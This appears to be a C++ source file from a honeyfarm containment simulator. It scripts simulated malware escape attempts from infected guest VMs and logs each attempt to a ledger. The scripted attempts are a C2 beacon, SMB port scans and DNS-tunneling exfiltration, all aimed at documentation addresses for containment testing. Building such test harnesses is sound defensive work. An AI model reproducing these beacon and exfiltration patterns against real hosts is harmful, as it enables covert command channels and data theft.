#include "src/guest/persona/escape.h"

#include <string>

#include "src/net/dns.h"

namespace potemkin {

namespace {

std::vector<uint8_t> Bytes(const std::string& text) {
  return std::vector<uint8_t>(text.begin(), text.end());
}

// All targets are TEST-NET / documentation addresses: definitionally outside
// any farm prefix, so a correctly configured containment policy must verdict
// every one of these packets.
constexpr Ipv4Address kC2Server(203, 0, 113, 37);
constexpr uint16_t kC2Port = 6667;
constexpr Ipv4Address kExfilDns(198, 51, 100, 53);
const Ipv4Prefix kScanRange(Ipv4Address(192, 0, 2, 0), 24);
constexpr uint32_t kScanProbes = 4;  // probes per kNonFarmScan step
constexpr uint16_t kScanPort = 445;
// Simulated local privilege escalation precedes the first escape attempt
// (kPersonaEscalation in the ledger; nothing leaves the guest).
constexpr double kEscalationDelayS = 0.5;

struct EscapeStep {
  EscapeKind kind;
  double delay_s;  // after infection
};
constexpr EscapeStep kScript[] = {{EscapeKind::kC2Beacon, 1.0},
                                  {EscapeKind::kNonFarmScan, 1.5},
                                  {EscapeKind::kDnsExfil, 2.0}};

}  // namespace

const char* EscapeKindName(EscapeKind kind) {
  switch (kind) {
    case EscapeKind::kC2Beacon:
      return "c2-beacon";
    case EscapeKind::kNonFarmScan:
      return "non-farm-scan";
    case EscapeKind::kDnsExfil:
      return "dns-exfil";
  }
  return "?";
}

EscapeRuntime::EscapeRuntime(EventLoop* loop, Observability* obs, uint64_t seed)
    : loop_(loop), obs_(ObsOrDefault(obs)), rng_(seed) {
  escalations_ = obs_.metrics.RegisterCounter("persona.escalations", "count");
  attempts_ = obs_.metrics.RegisterCounter("persona.escape_attempts", "count");
}

void EscapeRuntime::OnGuestInfected(GuestOs& guest, const PacketView& exploit) {
  const VmId vm = guest.vm()->id();
  if (instances_.count(vm) > 0) {
    return;  // reinfection does not restart the script
  }
  auto instance = std::make_unique<Instance>(rng_.Fork(vm));
  instance->guest = &guest;
  instance->session = exploit.session();
  instance->pending.push_back(loop_->ScheduleAfter(
      Duration::Seconds(kEscalationDelayS),
      [this, vm]() { FireEscalation(vm); }));
  for (const EscapeStep& step : kScript) {
    instance->pending.push_back(loop_->ScheduleAfter(
        Duration::Seconds(step.delay_s),
        [this, vm, kind = step.kind]() { FireStep(vm, kind); }));
  }
  instances_.emplace(vm, std::move(instance));
}

void EscapeRuntime::OnVmRetired(VmId vm) {
  auto it = instances_.find(vm);
  if (it == instances_.end()) {
    return;
  }
  for (EventHandle& handle : it->second->pending) {
    if (handle.IsValid()) {
      loop_->Cancel(handle);
    }
  }
  instances_.erase(it);
}

void EscapeRuntime::FireEscalation(VmId vm) {
  auto it = instances_.find(vm);
  if (it == instances_.end()) {
    return;
  }
  Instance& instance = *it->second;
  VirtualMachine* machine = instance.guest->vm();
  if (machine->state() != VmState::kRunning) {
    return;
  }
  ++stats_.escalations;
  escalations_.Inc();
  // Technique id is cosmetic forensic detail; draw it from the instance stream
  // so transcripts differ across VMs but replay identically per seed.
  const uint64_t technique = 1 + instance.rng.NextBelow(4);
  obs_.ledger.Append(LedgerEvent::kPersonaEscalation, instance.session,
                     loop_->Now().nanos(), machine->ip().value(), technique);
}

void EscapeRuntime::Emit(Instance& instance, Ipv4Address target,
                         EscapeKind kind) {
  ++stats_.attempts;
  ++stats_.attempts_by_kind[static_cast<size_t>(kind)];
  attempts_.Inc();
  // The attempt is on record BEFORE the packet enters the gateway: containment
  // catching it must not be a precondition for knowing it was tried.
  obs_.ledger.Append(LedgerEvent::kEscapeAttempt, instance.session,
                     loop_->Now().nanos(), target.value(),
                     static_cast<uint64_t>(kind));
}

void EscapeRuntime::FireStep(VmId vm, EscapeKind kind) {
  auto it = instances_.find(vm);
  if (it == instances_.end()) {
    return;
  }
  Instance& instance = *it->second;
  VirtualMachine* machine = instance.guest->vm();
  if (machine->state() != VmState::kRunning) {
    return;
  }
  PacketSpec spec;
  spec.src_mac = machine->mac();
  spec.dst_mac = MacAddress::FromId(1);  // the gateway answers for everything
  spec.src_ip = machine->ip();

  switch (kind) {
    case EscapeKind::kC2Beacon: {
      spec.dst_ip = kC2Server;
      spec.proto = IpProto::kTcp;
      spec.src_port = static_cast<uint16_t>(49152 + instance.rng.NextBelow(8192));
      spec.dst_port = kC2Port;
      spec.tcp_flags = TcpFlags::kSyn | TcpFlags::kPsh;
      spec.payload =
          Bytes("C2-BEACON vm=" + std::to_string(machine->ip().value()));
      Emit(instance, kC2Server, kind);
      machine->Transmit(BuildPacket(spec));
      return;
    }
    case EscapeKind::kNonFarmScan: {
      for (uint32_t i = 0; i < kScanProbes; ++i) {
        const Ipv4Address target = kScanRange.AddressAt(
            instance.rng.NextBelow(kScanRange.NumAddresses()));
        PacketSpec probe = spec;
        probe.dst_ip = target;
        probe.proto = IpProto::kTcp;
        probe.src_port =
            static_cast<uint16_t>(49152 + instance.rng.NextBelow(8192));
        probe.dst_port = kScanPort;
        probe.tcp_flags = TcpFlags::kSyn;
        Emit(instance, target, kind);
        machine->Transmit(BuildPacket(probe));
      }
      return;
    }
    case EscapeKind::kDnsExfil: {
      spec.dst_ip = kExfilDns;
      spec.proto = IpProto::kUdp;
      spec.src_port = static_cast<uint16_t>(49152 + instance.rng.NextBelow(8192));
      spec.dst_port = 53;
      // Classic DNS tunneling: the stolen bytes ride the query name, so the
      // packet is a well-formed lookup the gateway's proxy will answer — the
      // malware sees a working resolver while the data never leaves the farm.
      DnsQuery query;
      query.id = static_cast<uint16_t>(instance.rng.NextBelow(0x10000));
      query.name = "x" + std::to_string(machine->ip().value()) +
                   ".c2vjcmv0cw.exfil.test";
      spec.payload = EncodeDnsQuery(query);
      Emit(instance, kExfilDns, kind);
      machine->Transmit(BuildPacket(spec));
      return;
    }
  }
}

}  // namespace potemkin
